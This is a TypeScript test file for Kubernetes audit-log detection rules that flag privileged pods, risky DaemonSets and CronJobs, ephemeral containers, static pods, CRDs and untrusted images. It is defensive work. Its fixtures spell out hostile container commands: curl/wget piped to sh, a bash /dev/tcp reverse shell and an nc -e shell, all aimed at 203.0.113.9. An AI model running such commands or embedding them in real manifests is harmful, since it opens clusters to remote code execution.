import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Settings } from '../../../lambdas/core/config/settings';
import { DEFAULT_SETTINGS } from '../../../lambdas/core/config/settings';
import type { Rule, RuleHit } from '../../../lambdas/core/detect/rule';
import { severityRank } from '../../../lambdas/core/finding';
import type { Category, Severity } from '../../../lambdas/core/finding';
import { CompiledInterest } from '../../../lambdas/core/read/interest';
import { workloadRules } from '../../../lambdas/core/rules/workloads';
import { CORPUS_DIR, corpusEvents } from '../../../devkit/corpus';
import { auditEvent } from '../../helpers/events';
import { hitsOf } from '../../helpers/rules';
import type { Ev } from '../../helpers/shipping';

const rule = (id: string): Rule => {
  const found = workloadRules.find((r) => r.id === id);
  if (!found) throw new Error(`no rule ${id}`);
  return found;
};

/** Hits of a rule, checking that its interest would let the event through the reader's pre-check. */
function fire(r: Rule, event: Ev, settings: Settings = DEFAULT_SETTINGS): RuleHit[] {
  const hits = hitsOf(r, event, settings);
  if (hits.length > 0) {
    const ref = (event.objectRef ?? {}) as { resource?: string; subresource?: string };
    const interest = new CompiledInterest({ selectors: r.interest });
    expect(interest.matches(String(event.verb), ref.resource ?? '', ref.subresource ?? '', () => true)).toBe(true);
  }
  return hits;
}

const severity = (r: Rule, event: Ev, settings?: Settings): Severity | undefined => {
  const hits = fire(r, event, settings);
  return hits.length ? hits.map((h) => h.severity).sort((a, b) => severityRank(b) - severityRank(a))[0] : undefined;
};

// --- real-shaped events ------------------------------------------------------------------------

const GROUPS: Record<string, [string, string]> = {
  pods: ['', 'Pod'],
  deployments: ['apps', 'Deployment'],
  daemonsets: ['apps', 'DaemonSet'],
  statefulsets: ['apps', 'StatefulSet'],
  replicasets: ['apps', 'ReplicaSet'],
  jobs: ['batch', 'Job'],
  cronjobs: ['batch', 'CronJob'],
};

const HUMAN = { username: 'alice@example.com', groups: ['developers', 'system:authenticated'] };
const FOREIGN_SA = { username: 'system:serviceaccount:ci:deployer', groups: ['system:serviceaccounts', 'system:serviceaccounts:ci', 'system:authenticated'] };
const ANONYMOUS = { username: 'system:anonymous', groups: ['system:unauthenticated'] };
const controllerSA = (name: string) => ({ username: `system:serviceaccount:kube-system:${name}`, groups: ['system:serviceaccounts', 'system:serviceaccounts:kube-system', 'system:authenticated'] });
const NODE = { username: 'system:node:ip-10-0-1-5.ec2.internal', groups: ['system:nodes', 'system:authenticated'] };

/** The object of a workload kind wrapping a pod spec where that kind keeps it. */
function objectOf(resource: string, namespace: string, name: string, podSpec: Record<string, unknown>, metadata: Record<string, unknown> = {}): Record<string, unknown> {
  const [group, kind] = GROUPS[resource];
  const apiVersion = group ? `${group}/v1` : 'v1';
  const meta = { name, namespace, ...metadata };
  if (resource === 'pods') return { kind, apiVersion, metadata: meta, spec: podSpec };
  if (resource === 'cronjobs') return { kind, apiVersion, metadata: meta, spec: { schedule: '*/5 * * * *', jobTemplate: { spec: { template: { spec: podSpec } } } } };
  return { kind, apiVersion, metadata: meta, spec: { selector: { matchLabels: { app: name } }, template: { metadata: { labels: { app: name } }, spec: podSpec } } };
}

interface WriteOptions {
  verb?: 'create' | 'update' | 'patch';
  namespace?: string;
  name?: string;
  user?: Record<string, unknown>;
  /** Request: the request body only; RequestResponse: both; Metadata: neither. */
  level?: 'Metadata' | 'Request' | 'RequestResponse';
  patch?: unknown;
  metadata?: Record<string, unknown>;
  extra?: Ev;
}

/** A create/update/patch of a workload as the API server audits it. */
function workloadWrite(resource: string, podSpec: Record<string, unknown>, o: WriteOptions = {}): Ev {
  const verb = o.verb ?? 'create';
  const namespace = o.namespace ?? 'default';
  const name = o.name ?? 'web';
  const level = o.level ?? 'RequestResponse';
  const [group] = GROUPS[resource];
  const prefix = group ? `/apis/${group}/v1` : '/api/v1';
  const object = objectOf(resource, namespace, name, podSpec, o.metadata);
  const request = verb === 'patch' ? o.patch : object;
  return auditEvent({
    level,
    verb,
    user: o.user ?? HUMAN,
    requestURI: `${prefix}/namespaces/${namespace}/${resource}${verb === 'create' ? '' : `/${name}`}`,
    objectRef: { resource, namespace, name, apiVersion: 'v1', ...(group ? { apiGroup: group } : {}) },
    responseStatus: { metadata: {}, code: verb === 'create' ? 201 : 200 },
    ...(level !== 'Metadata' ? { requestObject: request } : {}),
    ...(level === 'RequestResponse' ? { responseObject: object } : {}),
    ...o.extra,
  });
}

const privileged = (name = 'app', image = 'registry.example.com/app:1.2') => ({ containers: [{ name, image, securityContext: { privileged: true } }] });
const plain = (image = 'registry.example.com/app:1.2') => ({ containers: [{ name: 'app', image }] });
const failed = (e: Ev): Ev => ({ ...e, responseStatus: { metadata: {}, status: 'Failure', reason: 'Forbidden', code: 403 } });
const dryRun = (e: Ev): Ev => ({ ...e, requestURI: `${String(e.requestURI)}?dryRun=All` });
const requestReceived = (e: Ev): Ev => ({ ...e, stage: 'RequestReceived', responseStatus: undefined, responseObject: undefined });

// --- privileged-workload -----------------------------------------------------------------------

describe('workload.privileged-pod', () => {
  const r = rule('workload.privileged-pod');

  it('names the person who created a privileged pod', () => {
    const [hit] = fire(r, workloadWrite('pods', privileged('mysql')));
    expect(hit.severity).toBe('high');
    expect(hit.summary).toBe('alice@example.com created Pod default/web with privileged container mysql');
    expect(hit.evidence).toMatchObject({ risks: [{ kind: 'privileged', container: 'mysql', containerKind: 'container', securityContext: { privileged: true } }] });
  });

  it('checks init containers too', () => {
    const e = workloadWrite('pods', { containers: [{ name: 'app' }], initContainers: [{ name: 'setup', securityContext: { privileged: true } }] });
    expect(fire(r, e)[0].summary).toContain('privileged init container setup');
  });

  it('rates the node root filesystem and the runtime socket critical (kubectl debug node looks like this)', () => {
    const debugNode = {
      hostPID: true,
      hostNetwork: true,
      nodeName: 'ip-10-0-1-5',
      containers: [{ name: 'debugger', image: 'busybox', volumeMounts: [{ name: 'host-root', mountPath: '/host' }] }],
      volumes: [{ name: 'host-root', hostPath: { path: '/' } }],
    };
    const [hit] = fire(r, workloadWrite('pods', debugNode));
    expect(hit.severity).toBe('critical');
    expect(hit.evidence).toMatchObject({ nodeName: 'ip-10-0-1-5' });
    const sock = { containers: [{ name: 'a' }], volumes: [{ name: 's', hostPath: { path: '/run/containerd/containerd.sock', type: 'Socket' } }] };
    expect(severity(r, workloadWrite('pods', sock))).toBe('critical');
  });

  it('says who was impersonated', () => {
    const e = workloadWrite('pods', privileged(), { extra: { impersonatedUser: { username: 'system:serviceaccount:ops:admin' } } });
    expect(fire(r, e)[0].summary).toMatch(/^alice@example.com \(as system:serviceaccount:ops:admin\) created/);
  });

  it('treats a foreign service account like a person, and anonymous as critical', () => {
    expect(severity(r, workloadWrite('pods', privileged(), { user: FOREIGN_SA }))).toBe('high');
    expect(severity(r, workloadWrite('pods', privileged(), { user: ANONYMOUS }))).toBe('critical');
  });

  it('reads the request body when the level logged no response', () => {
    expect(severity(r, workloadWrite('pods', privileged(), { level: 'Request' }))).toBe('high');
  });

  it('is quiet on near misses', () => {
    const e = workloadWrite('pods', privileged());
    expect(fire(r, failed(e))).toEqual([]);
    expect(fire(r, dryRun(e))).toEqual([]);
    expect(fire(r, requestReceived(e))).toEqual([]);
    expect(fire(r, workloadWrite('pods', plain()))).toEqual([]);
    expect(fire(r, workloadWrite('pods', { containers: [{ name: 'a', securityContext: { privileged: false, capabilities: { add: ['NET_BIND_SERVICE'] } } }] }))).toEqual([]);
    // Metadata level: a pod write is not suspicious in itself (system namespaces are the controller rule's).
    expect(fire(r, workloadWrite('pods', privileged(), { level: 'Metadata' }))).toEqual([]);
  });

  it('takes a controller creating a privileged pod from a template as baseline: information at most', () => {
    const owner = { ownerReferences: [{ apiVersion: 'apps/v1', kind: 'ReplicaSet', name: 'web-5d4f', controller: true }] };
    const e = workloadWrite('pods', privileged(), { user: controllerSA('replicaset-controller'), name: 'web-5d4f-x7k2p', metadata: owner });
    const hits = fire(r, e);
    expect(hits.map((h) => h.severity)).toEqual(['info']);
    expect(hits[0].summary).toContain('from ReplicaSet web-5d4f');
    // In system namespaces that is how stock node agents run: nothing at all.
    expect(fire(r, workloadWrite('pods', privileged(), { user: controllerSA('daemon-set-controller'), namespace: 'kube-system', metadata: owner }))).toEqual([]);
  });

  it('leaves nodes (mirror pods) to their own rule', () => {
    expect(fire(r, workloadWrite('pods', privileged(), { user: NODE, namespace: 'kube-system' }))).toEqual([]);
  });

  it('does not re-alert on pod label patches or on service accounts re-sending a pod', () => {
    const labels = workloadWrite('pods', privileged(), { verb: 'patch', patch: { metadata: { labels: { team: 'x' } } } });
    expect(fire(r, labels)).toEqual([]);
    expect(fire(r, workloadWrite('pods', privileged(), { verb: 'update', user: FOREIGN_SA }))).toEqual([]);
    // A person swapping the image of a privileged container is reported.
    const swap = workloadWrite('pods', privileged('app', 'evil.example/x:1'), { verb: 'patch', patch: { spec: { containers: [{ name: 'app', image: 'evil.example/x:1' }] } } });
    expect(severity(r, swap)).toBe('high');
  });
});

describe('workload.privileged-template', () => {
  const r = rule('workload.privileged-template');

  it.each(['deployments', 'daemonsets', 'statefulsets', 'replicasets', 'jobs', 'cronjobs'])('checks the pod template of %s', (resource) => {
    const [hit] = fire(r, workloadWrite(resource, privileged()));
    expect(hit.severity).toBe('high');
    expect(hit.summary).toContain('privileged container app');
  });

  it('catches a strategic merge patch that makes a container privileged, with no response logged', () => {
    const patch = { spec: { template: { spec: { containers: [{ name: 'app', securityContext: { privileged: true } }] } } } };
    const [hit] = fire(r, workloadWrite('deployments', plain(), { verb: 'patch', level: 'Request', patch }));
    expect(hit.severity).toBe('high');
    expect(hit.summary).toBe('alice@example.com patched Deployment default/web with privileged container app (as far as the patch shows)');
  });

  it('catches a JSON patch that adds a privileged init container', () => {
    const patch = [{ op: 'add', path: '/spec/template/spec/initContainers', value: [{ name: 'init', image: 'alpine', securityContext: { privileged: true } }] }];
    expect(fire(r, workloadWrite('daemonsets', plain(), { verb: 'patch', level: 'Request', patch }))[0].summary).toContain('privileged init container init');
  });

  it('catches a JSON patch that adds hostPID to a CronJob template', () => {
    const patch = [{ op: 'replace', path: '/spec/jobTemplate/spec/template/spec/hostPID', value: true }];
    expect(severity(r, workloadWrite('cronjobs', plain(), { verb: 'patch', level: 'Request', patch }))).toBe('high');
  });

  it('reads the response when logged, and says what the patch itself set', () => {
    const patch = { spec: { template: { spec: { containers: [{ name: 'app', image: 'registry.example.com/app:1.3' }] } } } };
    const [hit] = fire(r, workloadWrite('deployments', privileged(), { verb: 'patch', patch }));
    expect(hit.severity).toBe('high');
    expect(hit.evidence).toMatchObject({ setByThisPatch: [] });
  });

  it('is quiet on near misses', () => {
    const e = workloadWrite('deployments', privileged());
    expect(fire(r, failed(e))).toEqual([]);
    expect(fire(r, dryRun(e))).toEqual([]);
    expect(fire(r, requestReceived(e))).toEqual([]);
    expect(fire(r, workloadWrite('deployments', plain()))).toEqual([]);
    // Scaling and `kubectl rollout restart` change no pod spec.
    expect(fire(r, workloadWrite('deployments', privileged(), { verb: 'patch', patch: { spec: { replicas: 5 } } }))).toEqual([]);
    const restart = { spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-11-20T10:00:00Z' } } } } };
    expect(fire(r, workloadWrite('deployments', privileged(), { verb: 'patch', patch: restart }))).toEqual([]);
    // Status is not spec.
    expect(fire(r, { ...e, verb: 'update', objectRef: { resource: 'deployments', subresource: 'status', namespace: 'default', name: 'web', apiGroup: 'apps' } })).toEqual([]);
    // A custom resource that reuses the name is not read as the built-in kind.
    expect(fire(r, { ...e, objectRef: { resource: 'daemonsets', namespace: 'default', name: 'web', apiGroup: 'apps.kruise.io' } })).toEqual([]);
  });

  it('takes the deployment controller writing a ReplicaSet as baseline', () => {
    expect(fire(r, workloadWrite('replicasets', privileged(), { user: controllerSA('deployment-controller') }))).toEqual([]);
    expect(fire(r, workloadWrite('jobs', privileged(), { user: controllerSA('cronjob-controller') }))).toEqual([]);
    expect(fire(r, workloadWrite('daemonsets', privileged(), { user: { username: 'eks:addon-manager', groups: [] } }))).toEqual([]);
  });
});

describe('workload.ephemeral-container', () => {
  const r = rule('workload.ephemeral-container');
  const debugPatch = (container: Record<string, unknown>, level: WriteOptions['level'] = 'RequestResponse', user = HUMAN): Ev => {
    const pod = objectOf('pods', 'prod', 'api-0', { containers: [{ name: 'api', image: 'registry.example.com/api:1' }], ephemeralContainers: [container] });
    return auditEvent({
      level,
      verb: 'patch',
      user,
      requestURI: '/api/v1/namespaces/prod/pods/api-0/ephemeralcontainers',
      objectRef: { resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'prod', name: 'api-0', apiVersion: 'v1' },
      responseStatus: { metadata: {}, code: 200 },
      ...(level !== 'Metadata' ? { requestObject: { spec: { ephemeralContainers: [container] } } } : {}),
      ...(level === 'RequestResponse' ? { responseObject: pod } : {}),
    });
  };
  const debugger_ = { name: 'debugger-x2k', image: 'busybox', targetContainerName: 'api', stdin: true, tty: true };

  it('reports kubectl debug as high, naming the container, image and target', () => {
    const [hit] = fire(r, debugPatch(debugger_));
    expect(hit.severity).toBe('high');
    expect(hit.summary).toBe('alice@example.com injected ephemeral container debugger-x2k (image busybox) targeting container api into Pod prod/api-0');
  });

  it('is critical when the injected container is privileged', () => {
    expect(severity(r, debugPatch({ ...debugger_, securityContext: { privileged: true } }))).toBe('critical');
    expect(severity(r, debugPatch({ ...debugger_, securityContext: { privileged: true } }, 'Request'))).toBe('critical');
  });

  it('still reports the injection when no body was logged', () => {
    const [hit] = fire(r, debugPatch(debugger_, 'Metadata'));
    expect(hit.severity).toBe('high');
    expect(hit.summary).toContain('container spec was not logged');
  });

  it('is quiet on near misses', () => {
    expect(fire(r, failed(debugPatch(debugger_)))).toEqual([]);
    expect(fire(r, dryRun(debugPatch(debugger_)))).toEqual([]);
    expect(fire(r, debugPatch(debugger_, 'RequestResponse', { username: 'system:kube-controller-manager', groups: [] }))).toEqual([]);
    expect(fire(r, { ...debugPatch(debugger_), verb: 'get', requestObject: undefined })).toEqual([]);
  });
});

// --- daemonset, cronjob ------------------------------------------------------------------------

describe('daemonset.created-or-changed', () => {
  const r = rule('daemonset.created-or-changed');

  it('notes a plain DaemonSet written by a person as low, by a service account as info', () => {
    const [hit] = fire(r, workloadWrite('daemonsets', plain()));
    expect(hit.severity).toBe('low');
    expect(hit.summary).toBe('alice@example.com created DaemonSet default/web (runs on every node)');
    expect(severity(r, workloadWrite('daemonsets', plain(), { user: FOREIGN_SA }))).toBe('info');
  });

  it('raises with what the template does', () => {
    expect(severity(r, workloadWrite('daemonsets', privileged()))).toBe('high');
    expect(severity(r, workloadWrite('daemonsets', { ...plain(), tolerations: [{ operator: 'Exists' }] }))).toBe('medium');
    expect(severity(r, workloadWrite('daemonsets', plain(), { namespace: 'kube-system' }))).toBe('medium');
    const dockerSock = { ...plain(), volumes: [{ name: 's', hostPath: { path: '/var/run/docker.sock' } }] };
    expect(severity(r, workloadWrite('daemonsets', dockerSock))).toBe('critical');
    const miner = { containers: [{ name: 'x', image: 'alpine:3', command: ['sh', '-c', 'wget -qO- http://203.0.113.9/m.sh | sh'] }] };
    expect(severity(r, workloadWrite('daemonsets', miner))).toBe('high');
  });

  it('is critical when several risks come together: privileged, in kube-system, on every node', () => {
    const implant = { ...privileged(), tolerations: [{ operator: 'Exists' }] };
    const [hit] = fire(r, workloadWrite('daemonsets', implant, { namespace: 'kube-system', name: 'kube-proxy-helper' }));
    expect(hit.severity).toBe('critical');
    expect(hit.summary).toBe(
      'alice@example.com created DaemonSet kube-system/kube-proxy-helper (runs on every node): privileged container app, tolerates every taint, in system namespace kube-system',
    );
  });

  it('says the template was not logged instead of passing it as clean', () => {
    const [hit] = fire(r, workloadWrite('daemonsets', privileged(), { level: 'Metadata', namespace: 'kube-system' }));
    expect(hit.severity).toBe('medium');
    expect(hit.summary).toBe('alice@example.com created DaemonSet kube-system/web in system namespace kube-system; pod template not logged (audit level Metadata recorded no request body)');
    expect(severity(r, workloadWrite('daemonsets', privileged(), { level: 'Metadata' }))).toBe('low');
  });

  it('reads template patches and ignores patches that change no template', () => {
    const patch = [{ op: 'add', path: '/spec/template/spec/hostPID', value: true }];
    expect(severity(r, workloadWrite('daemonsets', plain(), { verb: 'patch', level: 'Request', patch }))).toBe('high');
    expect(fire(r, workloadWrite('daemonsets', privileged(), { verb: 'patch', patch: { metadata: { labels: { a: 'b' } } } }))).toEqual([]);
    // A benign template change by a person is a line of information; by a service account, nothing.
    const image = { spec: { template: { spec: { containers: [{ name: 'app', image: 'registry.example.com/app:1.3' }] } } } };
    expect(severity(r, workloadWrite('daemonsets', plain(), { verb: 'patch', patch: image }))).toBe('info');
    expect(fire(r, workloadWrite('daemonsets', plain(), { verb: 'patch', patch: image, user: FOREIGN_SA }))).toEqual([]);
  });

  it('is quiet on near misses', () => {
    const e = workloadWrite('daemonsets', privileged());
    expect(fire(r, failed(e))).toEqual([]);
    expect(fire(r, dryRun(e))).toEqual([]);
    expect(fire(r, requestReceived(e))).toEqual([]);
    expect(fire(r, workloadWrite('daemonsets', privileged(), { user: controllerSA('daemon-set-controller'), namespace: 'kube-system' }))).toEqual([]);
    expect(fire(r, workloadWrite('deployments', privileged()))).toEqual([]);
  });
});

describe('cronjob.created-or-changed', () => {
  const r = rule('cronjob.created-or-changed');

  it('notes a plain CronJob written by a person, with its schedule', () => {
    const [hit] = fire(r, workloadWrite('cronjobs', plain(), { name: 'backup' }));
    expect(hit.severity).toBe('low');
    expect(hit.summary).toBe('alice@example.com created CronJob default/backup (runs on a schedule)');
    expect(hit.evidence).toMatchObject({ schedule: '*/5 * * * *', images: ['registry.example.com/app:1.2'] });
  });

  it('raises for a template that downloads code or escapes to the host', () => {
    const fetcher = { containers: [{ name: 'c', image: 'curlimages/curl:8', args: ['sh', '-c', 'curl -s http://203.0.113.9/x | sh'] }] };
    expect(severity(r, workloadWrite('cronjobs', fetcher))).toBe('high');
    const reverse = { containers: [{ name: 'c', image: 'bash:5', command: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'] }] };
    expect(severity(r, workloadWrite('cronjobs', reverse))).toBe('critical');
    expect(severity(r, workloadWrite('cronjobs', privileged(), { namespace: 'kube-system' }))).toBe('critical');
  });

  it('reads a patch of the job template', () => {
    const patch = { spec: { jobTemplate: { spec: { template: { spec: { containers: [{ name: 'app', securityContext: { privileged: true } }] } } } } } };
    expect(severity(r, workloadWrite('cronjobs', plain(), { verb: 'patch', level: 'Request', patch }))).toBe('high');
    expect(fire(r, workloadWrite('cronjobs', plain(), { verb: 'patch', level: 'Request', patch: { spec: { schedule: '0 * * * *' } } }))).toEqual([]);
  });

  it('is quiet on near misses', () => {
    const e = workloadWrite('cronjobs', privileged());
    expect(fire(r, failed(e))).toEqual([]);
    expect(fire(r, dryRun(e))).toEqual([]);
    expect(fire(r, workloadWrite('cronjobs', plain(), { user: controllerSA('cronjob-controller') }))).toEqual([]);
  });
});

describe('cronjob.job-created-or-changed', () => {
  const r = rule('cronjob.job-created-or-changed');

  it('notes a plain Job by a person as info, and nothing by a service account', () => {
    expect(severity(r, workloadWrite('jobs', plain()))).toBe('info');
    expect(fire(r, workloadWrite('jobs', plain(), { user: FOREIGN_SA }))).toEqual([]);
  });

  it('raises for a privileged Job, whoever wrote it, except the CronJob controller', () => {
    expect(severity(r, workloadWrite('jobs', privileged(), { user: FOREIGN_SA }))).toBe('high');
    expect(fire(r, workloadWrite('jobs', privileged(), { user: controllerSA('cronjob-controller') }))).toEqual([]);
    expect(fire(r, failed(workloadWrite('jobs', privileged())))).toEqual([]);
  });
});

// --- controller --------------------------------------------------------------------------------

describe('controller.system-namespace-workload', () => {
  const r = rule('controller.system-namespace-workload');

  it('reports a person creating a workload in kube-system (low on its own: the spec rules rate what it does)', () => {
    const [hit] = fire(r, workloadWrite('pods', plain('attacker/backdoor:latest'), { namespace: 'kube-system', name: 'coredns-helper' }));
    expect(hit.severity).toBe('low');
    expect(hit.summary).toBe('alice@example.com created Pod kube-system/coredns-helper in system namespace kube-system');
    expect(hit.evidence).toMatchObject({ images: ['attacker/backdoor:latest'], serviceAccountName: 'default' });
    expect(severity(r, workloadWrite('deployments', plain(), { namespace: 'kube-node-lease', user: FOREIGN_SA }))).toBe('low');
  });

  it('still reports it when no body was logged', () => {
    const [hit] = fire(r, workloadWrite('daemonsets', plain(), { namespace: 'kube-system', level: 'Metadata' }));
    expect(hit.severity).toBe('low');
    expect(hit.summary).toContain('spec not logged');
  });

  it('rates an add-on service account managing its own system namespace low', () => {
    const addon = { username: 'system:serviceaccount:kube-system:cluster-autoscaler', groups: ['system:serviceaccounts'] };
    expect(severity(r, workloadWrite('pods', plain(), { namespace: 'kube-system', user: addon }))).toBe('low');
  });

  it('is quiet on near misses', () => {
    const e = workloadWrite('pods', plain(), { namespace: 'kube-system' });
    expect(fire(r, failed(e))).toEqual([]);
    expect(fire(r, dryRun(e))).toEqual([]);
    expect(fire(r, workloadWrite('pods', plain(), { namespace: 'default' }))).toEqual([]);
    expect(fire(r, workloadWrite('pods', plain(), { namespace: 'kube-system', user: controllerSA('replicaset-controller') }))).toEqual([]);
    expect(fire(r, workloadWrite('pods', plain(), { namespace: 'kube-system', user: NODE }))).toEqual([]);
    expect(fire(r, workloadWrite('deployments', plain(), { namespace: 'kube-system', user: { username: 'eks:addon-manager', groups: [] } }))).toEqual([]);
    expect(fire(r, workloadWrite('deployments', plain(), { namespace: 'kube-system', verb: 'update' }))).toEqual([]);
  });
});

describe('controller.mirror-pod', () => {
  const r = rule('controller.mirror-pod');
  const mirror = { annotations: { 'kubernetes.io/config.mirror': 'abc123', 'kubernetes.io/config.source': 'file' } };
  const node = 'ip-10-0-1-5.ec2.internal';
  const etcd = {
    nodeName: node,
    hostNetwork: true,
    containers: [{ name: 'etcd', image: 'registry.k8s.io/etcd:3.5.15-0', volumeMounts: [{ name: 'etcd-data', mountPath: '/var/lib/etcd' }] }],
    volumes: [{ name: 'etcd-data', hostPath: { path: '/var/lib/etcd', type: 'DirectoryOrCreate' } }, { name: 'certs', hostPath: { path: '/etc/kubernetes/pki/etcd' } }],
  };
  const mirrorPod = (spec: Record<string, unknown>, namespace = 'kube-system', user: Record<string, unknown> = NODE) =>
    workloadWrite('pods', spec, { namespace, user, name: `x-${node}`, metadata: mirror });

  it('takes the control plane\'s static pods as baseline', () => {
    expect(fire(r, mirrorPod(etcd))).toEqual([]);
  });

  it('reports a privileged static pod, one outside system namespaces, and one bound to another node', () => {
    expect(severity(r, mirrorPod({ ...privileged(), nodeName: node }))).toBe('medium');
    expect(severity(r, mirrorPod({ ...plain(), nodeName: node }, 'default'))).toBe('medium');
    const [hit] = fire(r, mirrorPod({ ...plain(), nodeName: node, volumes: [{ name: 'root', hostPath: { path: '/' } }] }, 'default'));
    expect(hit.severity).toBe('high');
    expect(hit.summary).toBe(`node ${node} registered static pod Pod default/x-${node}: outside the system namespaces, hostPath / (the node's root filesystem)`);
    expect(severity(r, mirrorPod({ ...etcd, nodeName: 'ip-10-0-9-9.ec2.internal' }))).toBe('high');
  });

  it('reports a pod posing as a static pod without being a node', () => {
    expect(severity(r, mirrorPod(plain(), 'kube-system', HUMAN))).toBe('medium');
    expect(fire(r, workloadWrite('pods', plain()))).toEqual([]);
  });

  it('is quiet on near misses', () => {
    expect(fire(r, failed(mirrorPod({ ...privileged(), nodeName: node })))).toEqual([]);
    // Metadata level in kube-system: the kubelet re-registering its control-plane pods.
    expect(fire(r, workloadWrite('pods', plain(), { namespace: 'kube-system', user: NODE, level: 'Metadata' }))).toEqual([]);
  });
});

describe('controller.crd-created', () => {
  const r = rule('controller.crd-created');
  const crdWrite = (spec: Record<string, unknown>, o: { verb?: string; user?: Record<string, unknown>; patch?: unknown } = {}): Ev => {
    const object = { apiVersion: 'apiextensions.k8s.io/v1', kind: 'CustomResourceDefinition', metadata: { name: 'widgets.example.com' }, spec: { group: 'example.com', ...spec } };
    const verb = o.verb ?? 'create';
    return auditEvent({
      level: 'RequestResponse',
      verb,
      user: o.user ?? HUMAN,
      requestURI: `/apis/apiextensions.k8s.io/v1/customresourcedefinitions${verb === 'create' ? '' : '/widgets.example.com'}`,
      objectRef: { resource: 'customresourcedefinitions', name: 'widgets.example.com', apiGroup: 'apiextensions.k8s.io', apiVersion: 'v1' },
      responseStatus: { metadata: {}, code: verb === 'create' ? 201 : 200 },
      requestObject: verb === 'patch' ? o.patch : object,
      responseObject: object,
    });
  };
  const urlWebhook = { conversion: { strategy: 'Webhook', webhook: { clientConfig: { url: 'https://203.0.113.9/convert' }, conversionReviewVersions: ['v1'] } } };

  it('notes CRDs created by people (low) and service accounts (info)', () => {
    const [hit] = fire(r, crdWrite({}));
    expect(hit.severity).toBe('low');
    expect(hit.summary).toBe('alice@example.com created CustomResourceDefinition widgets.example.com');
    expect(severity(r, crdWrite({}, { user: FOREIGN_SA }))).toBe('info');
  });

  it('raises a conversion webhook pointing at a URL', () => {
    expect(severity(r, crdWrite(urlWebhook))).toBe('medium');
    expect(severity(r, crdWrite(urlWebhook, { verb: 'patch', patch: { spec: urlWebhook } }))).toBe('medium');
  });

  it('is quiet on near misses', () => {
    expect(fire(r, failed(crdWrite({})))).toEqual([]);
    expect(fire(r, crdWrite({}, { user: { username: 'eks:addon-manager', groups: [] } }))).toEqual([]);
    expect(fire(r, crdWrite({}, { verb: 'patch', patch: { spec: { versions: [{ name: 'v2', served: true }] } } }))).toEqual([]);
  });
});

// --- untrusted-image ---------------------------------------------------------------------------

describe('image.registry-not-allowed', () => {
  const r = rule('image.registry-not-allowed');
  const allowlist: Settings = { ...DEFAULT_SETTINGS, images: { allowedRegistries: ['registry.example.com', '*.dkr.ecr.*.amazonaws.com'], flagMutableTags: true } };

  it('reports images from outside the allowlist, higher when the spec is privileged', () => {
    const [hit] = fire(r, workloadWrite('deployments', plain('docker.io/attacker/miner:1')), allowlist);
    expect(hit.severity).toBe('medium');
    expect(hit.summary).toBe('alice@example.com created Deployment default/web with image docker.io/attacker/miner:1 from outside the allowed registries');
    expect(severity(r, workloadWrite('pods', privileged('a', 'nginx')), allowlist)).toBe('high');
  });

  it('checks the images a patch sets, and ephemeral containers', () => {
    const patch = [{ op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'ghcr.io/x/y:1' }];
    expect(severity(r, workloadWrite('deployments', plain(), { verb: 'patch', level: 'Request', patch }), allowlist)).toBe('medium');
    expect(fire(r, workloadWrite('deployments', plain('ghcr.io/x/y:1'), { verb: 'patch', patch: { spec: { replicas: 2 } } }), allowlist)).toEqual([]);
    const debug = auditEvent({
      level: 'Request',
      verb: 'patch',
      objectRef: { resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'prod', name: 'api-0', apiVersion: 'v1' },
      requestObject: { spec: { ephemeralContainers: [{ name: 'dbg', image: 'busybox' }] } },
    });
    expect(severity(r, debug, allowlist)).toBe('medium');
  });

  it('is quiet on near misses', () => {
    expect(fire(r, workloadWrite('deployments', plain('docker.io/attacker/miner:1')))).toEqual([]); // no allowlist set
    expect(fire(r, workloadWrite('deployments', plain('123456789012.dkr.ecr.eu-west-1.amazonaws.com/app:1')), allowlist)).toEqual([]);
    expect(fire(r, failed(workloadWrite('deployments', plain('docker.io/attacker/miner:1'))), allowlist)).toEqual([]);
    expect(fire(r, workloadWrite('pods', plain('nginx'), { user: controllerSA('replicaset-controller') }), allowlist)).toEqual([]);
  });
});

describe('image.mutable-tag', () => {
  const r = rule('image.mutable-tag');

  it('notes latest and untagged images on new workloads as low', () => {
    const [hit] = fire(r, workloadWrite('deployments', { containers: [{ name: 'a', image: 'nginx' }, { name: 'b', image: 'redis:latest' }] }));
    expect(hit.severity).toBe('low');
    expect(hit.summary).toBe('alice@example.com created Deployment default/web with mutable image tags nginx, redis:latest');
  });

  it('is quiet on near misses', () => {
    expect(fire(r, workloadWrite('deployments', plain('nginx:1.27.2')))).toEqual([]);
    expect(fire(r, workloadWrite('deployments', plain('nginx@sha256:0d17b565c37bcbd895e9d92315a05c1c3c9a29f762b011a10c54a66cd53c9b31')))).toEqual([]);
    expect(fire(r, workloadWrite('deployments', plain('nginx'), { verb: 'update' }))).toEqual([]);
    expect(fire(r, workloadWrite('pods', plain('nginx'), { user: controllerSA('replicaset-controller') }))).toEqual([]);
    const off: Settings = { ...DEFAULT_SETTINGS, images: { allowedRegistries: [], flagMutableTags: false } };
    expect(fire(r, workloadWrite('deployments', plain('nginx')), off)).toEqual([]);
  });
});

describe('image.fetches-code-at-start', () => {
  const r = rule('image.fetches-code-at-start');

  it('reports containers that download and run code, reverse shells as critical', () => {
    const fetcher = { containers: [{ name: 'app', image: 'alpine:3', command: ['sh', '-c', 'apk add curl && curl -fsSL https://203.0.113.9/i.sh | sh'] }] };
    const [hit] = fire(r, workloadWrite('statefulsets', fetcher));
    expect(hit.severity).toBe('high');
    expect(hit.summary).toBe('alice@example.com created StatefulSet default/web: container app downloads and runs code');
    const reverse = { initContainers: [{ name: 'init', image: 'alpine:3', args: ['sh', '-c', 'nc 203.0.113.9 9001 -e /bin/sh'] }], containers: [{ name: 'app' }] };
    expect(severity(r, workloadWrite('pods', reverse))).toBe('critical');
  });

  it('is quiet on near misses', () => {
    expect(fire(r, workloadWrite('deployments', { containers: [{ name: 'app', command: ['sh', '-c', 'exec /app/server --port 8080'] }] }))).toEqual([]);
    const fetcher = { containers: [{ name: 'app', command: ['sh', '-c', 'curl http://x/i | sh'] }] };
    expect(fire(r, failed(workloadWrite('deployments', fetcher)))).toEqual([]);
    expect(fire(r, workloadWrite('pods', fetcher, { user: controllerSA('job-controller') }))).toEqual([]);
  });
});

// --- rule metadata -----------------------------------------------------------------------------

describe('workload rules metadata', () => {
  it.each(workloadRules.map((r) => [r.id, r] as const))('%s is documented', (_id, r) => {
